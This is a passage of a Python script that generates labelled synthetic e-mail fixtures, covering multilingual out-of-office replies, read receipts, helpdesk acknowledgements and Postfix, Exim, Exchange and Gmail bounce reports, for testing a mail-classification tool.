MIME-Version: 1.0

--_000_DB9PR05MB7321OOF9D8C7B6A5F4E3D2C1B0A9DB9PR05MB7321eurp_
Content-Type: text/plain; charset="us-ascii"

I am out of the office until 14 March with limited access to e-mail.
For urgent matters, please contact post@kriminalomsorg.example.org.

Ingrid Solberg

--_000_DB9PR05MB7321OOF9D8C7B6A5F4E3D2C1B0A9DB9PR05MB7321eurp_
Content-Type: text/html; charset="us-ascii"

<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
</head>
<body>
<div>I am out of the office until 14 March with limited access to e-mail.<br>
For urgent matters, please contact post@kriminalomsorg.example.org.<br>
<br>
Ingrid Solberg</div>
</body>
</html>

--_000_DB9PR05MB7321OOF9D8C7B6A5F4E3D2C1B0A9DB9PR05MB7321eurp_--
""")
    add("auto-exchange-automatic-reply.eml", "auto_reply", "none", False, "", "",
        "Exchange Online OOF: 'Automatic reply:' with X-Auto-Response-Suppress and X-MS-Exchange headers", raw, crlf=True)

    # --- older Exchange/Outlook "Out of Office:" without Auto-Submitted
    d = "Thu, 3 Mar 2022 14:20:11 +0100"
    raw = (envelope("jmorales@instituciones.example.com", d, "correo.instituciones.example.com", "198.51.100.180")
           + f"""From: Javier Morales Ruiz <jmorales@instituciones.example.com>
To: Working group contact <contact@callflow.example.org>
Subject: Out of Office: Participation in the working group meeting
Thread-Topic: Participation in the working group meeting
Thread-Index: AQHYLvJ8o9rD4lKw3Eif0QjTmJcUFQ==
Date: {d}
Message-ID: <a7c9e1f3b5d74a6c8e0f2b4d6a8c0e2f@EXCH02.instituciones.local>
{ack_reply_headers("javier")}Accept-Language: es-ES, en-US
Content-Language: es-ES
X-MS-Has-Attach:
X-MS-Exchange-Organization-SCL: -1
X-MS-TNEF-Correlator:
X-Auto-Response-Suppress: All
x-ms-exchange-transport-fromentityheader: Hosted
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp('''Estaré fuera de la oficina hasta el 9 de marzo.
I am out of the office until 9 March.
''', "iso-8859-1")}""")
    add("auto-outlook-out-of-office-no-auto-submitted.eml", "auto_reply", "none", False, "", "",
        "'Out of Office:' subject, only X-Auto-Response-Suppress (no Auto-Submitted)", raw, crlf=True)

    # --- German Exchange "Automatische Antwort:"
    d = "Thu, 10 Mar 2022 16:44:09 +0100"
    raw = (envelope("s.brandt@polizei.example.com", d, "gw.polizei.example.com", "198.51.100.5") + f"""From: "Brandt, Stefan" <s.brandt@polizei.example.com>
To: Working group contact <contact@callflow.example.org>
Subject: Automatische Antwort: Participation in the working group meeting
Thread-Topic: Participation in the working group meeting
Thread-Index: AQHYNJ7f0T2e4pKsMEq3Zs7lZKg1Nqy0Z6JR
Date: {d}
Message-ID: <4c2d0e8f6a1b49d7b3e5f7a9c1d3e5f7@EXMBX03.polizei.example.com>
{ack_reply_headers("stefan")}Accept-Language: de-DE, en-US
Content-Language: de-DE
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
auto-submitted: auto-generated
x-auto-response-suppress: All
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64('''Sehr geehrte Damen und Herren,

vielen Dank für Ihre Nachricht. Ich bin bis einschließlich 18.03.2022 nicht im Büro. Ihre E-Mail wird nicht weitergeleitet. In dringenden Fällen wenden Sie sich bitte an praevention@polizei.example.com.

Mit freundlichen Grüßen
Stefan Brandt
''')}""")
    add("auto-exchange-de-automatische-antwort.eml", "auto_reply", "none", False, "", "",
        "German Exchange OOF, lower-case header names, base64 body", raw, crlf=True)

    # --- German "Abwesenheitsnotiz" (Open-Xchange style)
    d = "Fri, 4 Mar 2022 17:01:30 +0100 (CET)"
    raw = (envelope("", d.replace(" (CET)", ""), "mout.web.example.net", "217.72.192.79") + f"""Date: {d}
From: Katharina Weber <k.weber@web.example.net>
To: contact@callflow.example.org
Message-ID: <1192837465.88211.1646409690417.JavaMail.open-xchange@ox-webmail.example.net>
{ack_reply_headers("kweber")}Subject: Abwesenheitsnotiz
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
Auto-Submitted: auto-replied
X-Mailer: Open-Xchange Mailer v7.10.5-Rev30

{qp('''Ich bin vom 4. bis 13. März nicht erreichbar. Ihre Nachricht wird nach meiner Rückkehr bearbeitet.

Katharina Weber
''')}""")
    add("auto-de-abwesenheitsnotiz.eml", "auto_reply", "none", False, "", "",
        "German 'Abwesenheitsnotiz' subject only (no original subject), Auto-Submitted", raw)

    # --- French Exchange "Réponse automatique :" as a Q encoded word with NBSP
    d = "Fri, 4 Mar 2022 09:10:20 +0000"
    subj = "Réponse automatique\u00a0: Participation in the working group meeting"
    raw = (envelope("camille.dubois@spip.example.org", d, "EUR04-DB3-obe.outbound.protection.outlook.example.com",
                    "40.107.6.113") + f"""From: Camille Dubois <camille.dubois@spip.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: {ew(subj, "iso-8859-1", "Q", 28)}
Thread-Topic: Participation in the working group meeting
Thread-Index: AQHYL5Xc6rW1v0kDf0i3Q2uPz2b4jA==
Date: {d}
Message-ID: {outlook_msgid("ar7")}
{ack_reply_headers("camille")}Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: camille.dubois@spip.example.org
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp('''Bonjour,

Je suis absente du bureau jusqu'au 8 mars inclus, sans accès à ma messagerie. Pour toute urgence, merci de contacter le secrétariat du SPIP.

Camille Dubois
''', "iso-8859-1")}""")
    add("auto-exchange-fr-reponse-automatique-encoded.eml", "auto_reply", "none", False, "", "",
        "French OOF; subject is several Q encoded words (iso-8859-1) with a no-break space", raw, crlf=True)

    # --- Dutch "Automatisch antwoord:"
    d = "Mon, 7 Mar 2022 08:00:02 +0000"
    raw = (envelope("s.bakker@gemeente.example.org", d, "EUR02-HE1-obe.outbound.protection.outlook.example.com",
                    "40.107.1.104") + f"""From: Sanne Bakker <s.bakker@gemeente.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Automatisch antwoord: Participation in the working group meeting
Thread-Topic: Participation in the working group meeting
Date: {d}
Message-ID: {outlook_msgid("ar8")}
{ack_reply_headers("sanne")}Content-Language: nl-NL
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: s.bakker@gemeente.example.org
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><p>Beste afzender,</p><p>Ik ben tot en met maandag 7 maart afwezig. Uw e-mail wordt niet doorgestuurd.</p><p>Met vriendelijke groet,<br>Sanne Bakker</p></body></html>')}""")
    add("auto-exchange-nl-automatisch-antwoord.eml", "auto_reply", "none", False, "", "",
        "Dutch OOF, HTML-only base64", raw, crlf=True)

    # --- Spanish "Respuesta automática:" as B encoded word
    d = "Thu, 17 Mar 2022 12:00:44 +0000"
    raw = (envelope("lfernandez@correo.example.com", d, "sonic305-3.consmr.mail.ne1.correo.example.com",
                    "66.163.186.151") + f"""Date: {d}
From: =?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lfernandez@correo.example.com>
To: Working group contact <contact@callflow.example.org>
Message-ID: <auto-reply-2041187999.3310999.1647518444001@mail.correo.example.com>
Subject: {ew("Respuesta automática: Re: Invitation: Working group meeting, 24-25 March 2022 (WebEx)", "UTF-8", "B", 40)}
In-Reply-To: <callflow.confirmation.lucia@callflow.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
Auto-Submitted: auto-replied
X-Autoreply: yes

{qp('''Gracias por su mensaje. Estaré de vacaciones hasta el 28 de marzo.
''')}""")
    add("auto-es-respuesta-automatica-b-encoded.eml", "auto_reply", "none", False, "", "",
        "Spanish OOF; subject B encoded words; both Auto-Submitted and X-Autoreply", raw)

    # --- Italian "Risposta automatica:" with only X-Autoreply (Exim/cPanel-style autoresponder)
    d = "Thu, 03 Mar 2022 10:41:02 +0100"
    raw = (envelope("g.bianchi@cooperativa.example.org", d, "webmail.cooperativa.example.org", "203.0.113.150")
           + f"""Received: from g.bianchi by webmail.cooperativa.example.org with local (Exim 4.94.2)
	(envelope-from <g.bianchi@cooperativa.example.org>)
	id 1nPhk9-0007Rb-2J
	for contact@callflow.example.org; {d}
X-Autoreply: yes
X-Autorespond: Participation in the working group meeting
To: contact@callflow.example.org
Subject: Risposta automatica: Participation in the working group meeting
From: Giulia Bianchi <g.bianchi@cooperativa.example.org>
{ack_reply_headers("giulia")}Message-Id: <E1nPhk9-0007Rb-2J@webmail.cooperativa.example.org>
Date: {d}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Grazie per il messaggio. Sarò fuori ufficio fino al 7 marzo; risponderò al mio rientro.
""")
    add("auto-it-risposta-automatica-x-autoreply.eml", "auto_reply", "none", False, "", "",
        "Italian OOF with X-Autoreply/X-Autorespond only, no Auto-Submitted", raw)

    # --- no automatic-mail headers at all, just an OOO subject and body
    d = "Tue, 15 Mar 2022 10:05:00 +0100"
    raw = (envelope("tomas.novak@probacni.example.com", d, "mx.probacni.example.com", "198.51.100.60") + f"""From: =?utf-8?B?VG9tw6HFoSBOb3bDoWs=?= <tomas.novak@probacni.example.com>
To: contact@callflow.example.org
Subject: Out of office until 21 March
Date: {d}
Message-ID: <ooo.1647335100.4471@mx.probacni.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Dobrý den, do 21. 3. jsem mimo kancelář.
I am out of the office until 21 March with no access to e-mail.

Tomáš Novák
""")
    add("auto-ooo-subject-only-no-headers.eml", "auto_reply", "none", False, "", "",
        "no Auto-Submitted/X-Autoreply/Precedence: only the subject and body say out-of-office", raw)

    # --- helpdesk ticket acknowledgement
    d = "Wed, 2 Mar 2022 10:16:30 +0200"
    raw = (envelope("servicedesk@ministry.example.com", d, "mail-he1eur02.outbound.ministry.example.com", "40.107.1.93")
           + f"""From: IT Service Desk <servicedesk@ministry.example.com>
To: contact@callflow.example.org
Subject: [INC-48213] We have received your request: Participation in the working group meeting
Date: {d}
Message-ID: <JIRA.48213.1646208990000@servicedesk.ministry.example.com>
{ack_reply_headers("ministry-shared")}Auto-Submitted: auto-replied
X-JIRA-FingerPrint: 4b1e0c9a7f3d2e6b8a5c1d0f
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Dear requester,

your request has been logged with reference INC-48213. An agent will contact
you within two working days. Please do not reply to this message.

IT Service Desk
""")
    add("auto-helpdesk-ticket-ack.eml", "auto_reply", "none", False, "", "",
        "ticket system acknowledgement (Auto-Submitted + Precedence: bulk)", raw)

    # --- "no longer with the organisation" auto-reply
    d = "Mon, 14 Mar 2022 10:03:10 +0100"
    raw = (envelope("j.peeters@justitie.example.org", d, "EUR01-DB5-obe.outbound.protection.outlook.example.com",
                    "40.107.15.60") + f"""From: Jan Peeters <j.peeters@justitie.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Automatic reply: Invitation: Working group meeting, 24-25 March 2022 (WebEx)
Date: {d}
Message-ID: {outlook_msgid("ar13")}
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

Jan Peeters no longer works for the Justitiehuis. This mailbox is not
monitored. Please send your message to info@justitie.example.org.
""")
    add("auto-no-longer-with-organisation.eml", "auto_reply", "none", False, "", "",
        "'no longer works here' auto-reply: not a bounce (mail was delivered), no bounced address", raw)

    # --- Outlook read receipt (MDN)
    d = "Mon, 14 Mar 2022 10:40:00 +0000"
    raw = (envelope("p.janssens@justitie.example.org", d, "EUR01-DB5-obe.outbound.protection.outlook.example.com",
                    "40.107.15.61") + f"""From: Pieter Janssens <p.janssens@justitie.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Read: Invitation: Working group meeting, 24-25 March 2022 (WebEx)
Date: {d}
Message-ID: {outlook_msgid("ar14")}
Content-Language: en-US
X-MS-Has-Attach:
Content-Type: multipart/report; report-type=disposition-notification;
	boundary="_001_AM0PR07MB6084MDN000000000AM0PR07MB6084eurp_"
MIME-Version: 1.0

--_001_AM0PR07MB6084MDN000000000AM0PR07MB6084eurp_
Content-Type: text/plain; charset="us-ascii"

Your message

  To: Pieter Janssens
  Subject: Invitation: Working group meeting, 24-25 March 2022 (WebEx)
  Sent: Monday, March 14, 2022 10:02:11 AM (UTC+01:00) Brussels, Copenhagen, Madrid, Paris

was read on Monday, March 14, 2022 11:40:00 AM (UTC+01:00) Brussels, Copenhagen, Madrid, Paris.

--_001_AM0PR07MB6084MDN000000000AM0PR07MB6084eurp_
Content-Type: message/disposition-notification

Reporting-UA: AM0PR07MB6084.eurprd07.prod.outlook.example.com; Microsoft Outlook 16.0
Final-Recipient: rfc822;p.janssens@justitie.example.org
Original-Message-ID: {cf_msgid("invite", "pieter")}
Disposition: manual-action/MDN-sent-manually; displayed

--_001_AM0PR07MB6084MDN000000000AM0PR07MB6084eurp_--
""")
    add("auto-read-receipt-mdn.eml", "auto_reply", "none", False, "", "",
        "MDN read receipt (multipart/report; disposition-notification): machine notice, not a reply", raw, crlf=True)

    # --- challenge-response anti-spam
    d = "Fri, 4 Mar 2022 16:21:05 +0100"
    raw = (envelope("verify@cr.mail.example.net", d, "cr.mail.example.net", "192.0.2.99") + f"""From: "Kevin Doyle (via MailGuard)" <verify@cr.mail.example.net>
To: contact@callflow.example.org
Subject: Please verify your message to kdoyle@mail.example.net
Date: {d}
Message-ID: <cr-9f2e1d0c@cr.mail.example.net>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello,

You sent a message to kdoyle@mail.example.net. To protect against spam, your
message is on hold until you confirm that you are a person. Please click
the link below within 7 days:

https://cr.mail.example.net/verify?id=9f2e1d0c4b3a

Your message: "Participation in the working group meeting"
""")
    add("auto-challenge-response.eml", "auto_reply", "none", False, "", "",
        "challenge-response anti-spam: never click or answer", raw)

    # --- our own message reflected back by a forwarder (loop)
    d = "Mon, 14 Mar 2022 10:02:30 +0100"
    raw = (envelope("contact@callflow.example.org", d, "fwd.example.net", "192.0.2.150") + f"""X-Original-To: old-address@example.net
Received: from smtp.callflow.example.org (smtp.callflow.example.org [192.0.2.10])
	by fwd.example.net (Postfix) with ESMTPS id 5B1A7C0099
	for <old-address@example.net>; {d}
From: Working group contact <contact@callflow.example.org>
To: Former Participant <old-address@example.net>
Cc: Working group contact <contact@callflow.example.org>
Subject: Re: Participation in the working group meeting
Date: Mon, 14 Mar 2022 10:02:11 +0100
Message-ID: {cf_msgid("ack", "old-address")}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

{ack_text("colleague")}
""")
    add("auto-own-message-looped-back.eml", "auto_reply", "none", False, "", "",
        "our own auto-reply came back through a forwarder (From is our address): loop guard; "
        "kind debatable - auto_reply chosen", raw)

    # --- EUSurvey-style periodic count mail
    d = "Mon, 7 Mar 2022 06:00:12 +0100"
    raw = (envelope("no-reply@eusurvey.example.org", d, "smtp.eusurvey.example.org", "198.51.100.250")
           + f"""Date: {d}
From: EUSurvey <no-reply@eusurvey.example.org>
To: contact@callflow.example.org
Message-ID: <1405321988.2241.1646629212611@eusurvey.example.org>
Subject: Contributions received for 'Working group meeting: expression of interest'
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 7bit

<html><body style="font-family: 'PT Sans', Verdana, sans-serif"><p>Dear user,</p><p>This is to inform you that your survey <b>'Working group meeting: expression of interest'</b> (alias: WG-exit-2022) has received <b>7</b> new contributions since Monday 28 February 2022.</p><p>Total number of contributions: <b>23</b></p><p>You can access the results at <a href="https://eusurvey.example.org/eusurvey/WG-exit-2022/management/results">https://eusurvey.example.org/eusurvey/WG-exit-2022/management/results</a>.</p><p>Kind regards,<br/>EUSurvey team</p><p style="color:#999">This is an automatically generated e-mail. Please do not reply.</p></body></html>
""")
    add("auto-eusurvey-contribution-count.eml", "auto_reply", "none", False, "", "",
        "survey count notification (EUSurvey-like no-reply, no Auto-Submitted): machine mail informing organisers, "
        "no applicant data; kind to revisit", raw)


# =========================================================================== bounces
def original(to: str, name: str, d: str, kind: str = "ack", subject: str = ACK_SUBJECT, body: bool = True) -> str:
    """The message callflow sent, as it appears inside a bounce."""
    hdr = f"""Return-Path: <contact@callflow.example.org>
Received: from app.callflow.example.org (app.callflow.example.org [192.0.2.10])
	(Authenticated sender: contact@callflow.example.org)
	by smtp.callflow.example.org (Postfix) with ESMTPSA id 4K{fake_id(to + 'o', 10)}
	for <{to}>; {d}
From: Working group contact <contact@callflow.example.org>
To: {name} <{to}>
Subject: {subject}
Date: {d}
Message-ID: {cf_msgid(kind, to)}
In-Reply-To: <{fake_id(to, 12).lower()}@{to.split('@')[1]}>
References: <{fake_id(to, 12).lower()}@{to.split('@')[1]}>
Auto-Submitted: auto-replied
Reply-To: Working group contact <contact@callflow.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit
"""
    return hdr + ("\n" + ack_text(name) + "\n" if body else "")


def postfix_dsn(name, d, arrival, recipients, *, subject="Undelivered Mail Returned to Sender", action="failed",
                human, headers_only=False, orig_to=None, extra_fields=""):
    qid = "4K" + fake_id(name, 10)
    bnd = f"{qid}.{int(parsedate_to_datetime(d).timestamp())}/smtp.callflow.example.org"
    per_rcpt = "\n".join(f"""Final-Recipient: rfc822; {r}
Original-Recipient: rfc822;{r}
Action: {action}
Status: {status}
{f"Remote-MTA: dns; {mta}{chr(10)}" if mta else ""}Diagnostic-Code: {diag}
{extra_fields}""" for r, status, mta, diag in recipients)
    first = recipients[0][0]
    orig = original(orig_to or first, "colleague", arrival, body=not headers_only)
    return f"""Return-Path: <>
Delivered-To: contact@callflow.example.org
Received: from smtp.callflow.example.org
	by imap.callflow.example.org with LMTP
	id {fake_id(name + 'l', 22)}
	(envelope-from <>)
	for <contact@callflow.example.org>; {later(d, 1)}
Received: by smtp.callflow.example.org (Postfix)
	id {qid}; {d}
Date: {d}
From: MAILER-DAEMON@smtp.callflow.example.org (Mail Delivery System)
Subject: {subject}
To: contact@callflow.example.org
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="{bnd}"
Content-Transfer-Encoding: 8bit
Message-Id: <{parsedate_to_datetime(d).strftime('%Y%m%d%H%M%S')}.{qid}@smtp.callflow.example.org>

This is a MIME-encapsulated message.

--{bnd}
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host smtp.callflow.example.org.

{human}

--{bnd}
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; smtp.callflow.example.org
X-Postfix-Queue-ID: {fake_id(first, 10)}
X-Postfix-Sender: rfc822; contact@callflow.example.org
Arrival-Date: {arrival}

{per_rcpt}
--{bnd}
Content-Description: {"Undelivered Message Headers" if headers_only else "Undelivered Message"}
Content-Type: {"text/rfc822-headers" if headers_only else "message/rfc822"}
Content-Transfer-Encoding: 8bit

{orig}
--{bnd}--
"""


PNG_HEAD = b"\x89PNG\r\n\x1a\n"


def bounce_messages():
    rcpt = "aoife.bryne@mail.example.com"
    raw = postfix_dsn("b1", "Wed, 2 Mar 2022 10:15:09 +0100 (CET)", "Wed, 2 Mar 2022 10:15:03 +0100 (CET)",
                      [(rcpt, "5.1.1", "mx.mail.example.com",
                        "smtp; 550-5.1.1 The email account that you tried to reach does not exist.\n"
                        "    Please try 550-5.1.1 double-checking the recipient's email address for\n"
                        "    typos or 550-5.1.1 unnecessary spaces. 550 5.1.1\n    a1-20020a05600c2c4100b0038c9a8b1c2dsi1234567wmg.12 - gsmtp")],
                      human=f"""I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<{rcpt}>: host mx.mail.example.com[203.0.113.27] said: 550-5.1.1
    The email account that you tried to reach does not exist. Please try
    550-5.1.1 double-checking the recipient's email address for typos or
    550-5.1.1 unnecessary spaces. 550 5.1.1
    a1-20020a05600c2c4100b0038c9a8b1c2dsi1234567wmg.12 - gsmtp (in reply to
    RCPT TO command)""")
    add("bounce-postfix-user-unknown.eml", "bounce", "none", False, "", rcpt,
        "Postfix RFC 3464 DSN, 5.1.1 (typo in the survey address); original ack attached as message/rfc822", raw)

    # --- Exim, mailbox full, X-Failed-Recipients, headers only
    d = "Thu, 03 Mar 2022 11:02:47 +0100"
    rcpt = "peter.kis@example.net"
    raw = (f"""Return-Path: <>
Delivered-To: contact@callflow.example.org
Received: from mx1.callflow.example.org
	by imap.callflow.example.org with LMTP
	id Zq3mB1d+IGLtLwAAd9Wc1w
	(envelope-from <>)
	for <contact@callflow.example.org>; {later(d, 2)}
Received: from mail.example.net ([198.51.100.44])
	by mx1.callflow.example.org (Postfix) with ESMTPS id 4K8b1Z0nXvz1wQ9
	for <contact@callflow.example.org>; {later(d, 1)}
Received: from Debian-exim by mail.example.net with local (Exim 4.94.2)
	id 1nPi6B-0003Kx-1c
	for contact@callflow.example.org; {d}
X-Failed-Recipients: {rcpt}
Auto-Submitted: auto-replied
From: Mail Delivery System <Mailer-Daemon@mail.example.net>
To: contact@callflow.example.org
References: {cf_msgid("ack", rcpt)}
Content-Type: multipart/report; report-type=delivery-status; boundary=1646301767-eximdsn-1804289383
MIME-Version: 1.0
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1nPi6B-0003Kx-1c@mail.example.net>
Date: {d}

--1646301767-eximdsn-1804289383
Content-type: text/plain; charset=us-ascii

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  {rcpt}
    mailbox is full: retry timeout exceeded

--1646301767-eximdsn-1804289383
Content-type: message/delivery-status

Reporting-MTA: dns; mail.example.net

Action: failed
Final-Recipient: rfc822;{rcpt}
Status: 5.2.2

--1646301767-eximdsn-1804289383
Content-type: text/rfc822-headers

""" + original(rcpt, "Peter Kis", "Wed, 02 Mar 2022 10:30:11 +0100", body=False) + """
--1646301767-eximdsn-1804289383--
""")
    add("bounce-exim-mailbox-full.eml", "bounce", "none", False, "", rcpt,
        "Exim DSN, 5.2.2 mailbox full, X-Failed-Recipients, text/rfc822-headers", raw)

    # --- Exchange Online NDR
    d = "Thu, 3 Mar 2022 13:40:10 +0000"
    rcpt = "m.dupont@justice.example.com"
    html = (f'<html><head></head><body><div style="font-family:\'Segoe UI\',Frutiger,Arial,sans-serif"><p>Your message to '
            f'<a href="mailto:{rcpt}">{rcpt}</a> couldn\'t be delivered.</p><p><b>m.dupont</b> wasn\'t found at '
            f'justice.example.com.</p><p style="color:#c00000"><b>Action Required</b></p><p>Unknown To address</p>'
            '<p><b>How to Fix It</b><br>The address may be misspelled or may not exist. Try one or more of the '
            'following:<ul><li>Retype the recipient\'s address, then resend the message.</li></ul></p>'
            '<p>Original Message Details<br>Created Date: 3/3/2022 1:40:03 PM<br>Sender Address: '
            'contact@callflow.example.org<br>Recipient Address: ' + rcpt + '<br>Subject: Re: Participation in the '
            'working group meeting</p><p>Error Details<br>Reported error: 550 5.1.10 RESOLVER.ADR.RecipientNotFound; '
            'Recipient not found by SMTP address lookup<br>DSN generated by: AM6PR10MB2213.EURPRD10.PROD.OUTLOOK.EXAMPLE.COM</p>'
            '</div></body></html>')
    raw = (envelope("", d, "EUR05-VI1-obe.outbound.protection.outlook.example.com", "40.107.21.45") + f"""From: Microsoft Outlook
	<MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@justice.example.com>
To: <contact@callflow.example.org>
Date: {d}
Content-Type: multipart/report; report-type=delivery-status;
	boundary="fd3b0a44-2b5e-4c1a-9e7f-5d8c6b4a2e10"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <9b8c7d6e-5f4a-4b3c-a2d1-e0f9a8b7c6d5@AM6PR10MB2213.EURPRD10.PROD.OUTLOOK.EXAMPLE.COM>
In-Reply-To: {cf_msgid("ack", rcpt)}
References: {cf_msgid("ack", rcpt)}
Subject: Undeliverable: Re: Participation in the working group meeting
Auto-Submitted: auto-replied
X-MS-PublicTrafficType: Email
MIME-Version: 1.0

--fd3b0a44-2b5e-4c1a-9e7f-5d8c6b4a2e10
Content-Type: multipart/alternative; differences=Content-Type;
	boundary="8c2a7e31-0d4f-4b6a-b5c9-e1f3a7d9c0b2"

--8c2a7e31-0d4f-4b6a-b5c9-e1f3a7d9c0b2
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(f'''Your message to {rcpt} couldn't be delivered.

m.dupont wasn't found at justice.example.com.

contact     Office 365      m.dupont
Action Required                 Recipient

Unknown To address

How to Fix It
The address may be misspelled or may not exist. Try one or more of the following:
  * Retype the recipient's address, then resend the message.

Original Message Details
Created Date:   3/3/2022 1:40:03 PM
Sender Address: contact@callflow.example.org
Recipient Address:      {rcpt}
Subject:        Re: Participation in the working group meeting

Error Details
Reported error: 550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup
DSN generated by:       AM6PR10MB2213.EURPRD10.PROD.OUTLOOK.EXAMPLE.COM
''')}
--8c2a7e31-0d4f-4b6a-b5c9-e1f3a7d9c0b2
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--8c2a7e31-0d4f-4b6a-b5c9-e1f3a7d9c0b2--

--fd3b0a44-2b5e-4c1a-9e7f-5d8c6b4a2e10
Content-Type: message/delivery-status

Reporting-MTA: dns;AM6PR10MB2213.EURPRD10.PROD.OUTLOOK.EXAMPLE.COM
Received-From-MTA: dns;smtp.callflow.example.org
Arrival-Date: Thu, 3 Mar 2022 13:40:08 +0000

Final-Recipient: rfc822;{rcpt}
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--fd3b0a44-2b5e-4c1a-9e7f-5d8c6b4a2e10
Content-Type: message/rfc822

{original(rcpt, "Marc Dupont", "Thu, 3 Mar 2022 14:40:03 +0100")}
--fd3b0a44-2b5e-4c1a-9e7f-5d8c6b4a2e10--
""")
    add("bounce-office365-ndr.eml", "bounce", "none", False, "", rcpt,
        "Exchange Online NDR: 'Undeliverable:', X-MS-Exchange-Message-Is-Ndr, 5.1.10", raw, crlf=True)

    # --- Gmail "Delivery Status Notification (Failure)"
    d = "Fri, 04 Mar 2022 01:12:09 -0800 (PST)"
    rcpt = "sofia.rosi@example.net"
    plain = f"""
** Address not found **

Your message wasn't delivered to {rcpt} because the address couldn't be found, or is unable to receive mail.

Learn more here: https://support.example.com/mail/?p=NoSuchUser

The response was:

550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown in virtual mailbox table
"""
    raw = (envelope("", "Fri, 04 Mar 2022 10:12:09 +0100", "mail-sor-f69.mail.example.com", "209.85.220.69")
           + f"""Received: by 2002:a05:6000:1a8b:b0:1f0:2a3b with SMTP id d11csp123456wrm;
        {d}
From: Mail Delivery Subsystem <mailer-daemon@googlemail.example.com>
To: contact@callflow.example.org
Auto-Submitted: auto-replied
Message-ID: <6221d8b9.1c69fb81.8a2b3.c4d5.GMR@mx.google.example.com>
Date: {d}
Subject: Delivery Status Notification (Failure)
References: {cf_msgid("ack", rcpt)}
In-Reply-To: {cf_msgid("ack", rcpt)}
X-Failed-Recipients: {rcpt}
MIME-Version: 1.0
Content-Type: multipart/report; boundary="0000000000009a8b7c05d95e1f20"; report-type=delivery-status

--0000000000009a8b7c05d95e1f20
Content-Type: multipart/related; boundary="0000000000009a8d3e05d95e1f27"

--0000000000009a8d3e05d95e1f27
Content-Type: multipart/alternative; boundary="0000000000009a8d4a05d95e1f28"

--0000000000009a8d4a05d95e1f28
Content-Type: text/plain; charset="UTF-8"
{plain}
--0000000000009a8d4a05d95e1f28
Content-Type: text/html; charset="UTF-8"

<html><head><style>* {{ font-family:Roboto, "Helvetica Neue", Helvetica, Arial, sans-serif; }}</style></head><body><table cellpadding="0" cellspacing="0" class="email-wrapper" style="padding-top:32px;background-color:#ffffff;"><tbody><tr><td><table cellpadding="0" cellspacing="0"><tbody><tr><td style="max-width:560px;padding:24px 24px 32px;background-color:#fafafa;border:1px solid #e0e0e0;border-radius:2px"><img style="padding:0 24px 16px 0;float:left" width="72" height="72" alt="Error Icon" src="cid:icon.png"><table style="min-width:272px;padding-top:8px"><tbody><tr><td><h2 style="font-size:20px;color:#212121;font-weight:bold;margin:0">Address not found</h2></td></tr><tr><td style="padding-top:20px;color:#757575;font-size:16px;font-weight:normal;text-align:left">Your message wasn't delivered to <a style="color:#212121;text-decoration:none"><b>{rcpt}</b></a> because the address couldn't be found, or is unable to receive mail.</td></tr></tbody></table></td></tr></tbody></table></td></tr><tr style="border:none;background-color:#fff;font-size:12.8px;width:90%"><td align="left" style="padding:48px 10px">The response was:<p style="font-family:monospace">550 5.1.1 &lt;{rcpt}&gt;: Recipient address rejected: User unknown in virtual mailbox table</p></td></tr></tbody></table></body></html>

--0000000000009a8d4a05d95e1f28--
--0000000000009a8d3e05d95e1f27
